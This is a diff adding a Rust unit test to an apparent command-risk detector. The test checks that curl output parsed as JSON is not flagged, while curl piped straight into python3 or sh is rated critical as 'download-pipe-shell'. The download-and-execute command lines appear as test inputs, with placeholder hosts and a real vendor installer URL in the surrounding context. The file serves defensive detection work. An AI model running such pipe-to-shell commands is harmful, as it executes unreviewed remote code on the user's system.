@@ -97,6 +97,25 @@ fn download_and_execute_lures_are_critical_also_as_prose() {
 }
 
 #[test]
+fn a_download_read_as_data_is_not_run() {
+    assert!(
+        rules_of("curl -s https://api.example.invalid/q | python3 -c 'import json,sys; print(json.load(sys.stdin))'\n")
+            .is_empty()
+    );
+    assert!(rules_of("curl -s https://api.example.invalid/q | python3 -m json.tool\n").is_empty());
+    has(
+        "curl -s https://x.example.invalid/p | python3\n",
+        "download-pipe-shell",
+        Level::Critical,
+    );
+    has(
+        "curl -s https://x.example.invalid/p | sh -s -- --yes\n",
+        "download-pipe-shell",
+        Level::Critical,
+    );
+}
+
+#[test]
 fn a_vendor_installer_is_medium_not_critical() {
     has(
         "curl -LsSf https://astral.sh/uv/install.sh | sh\n",
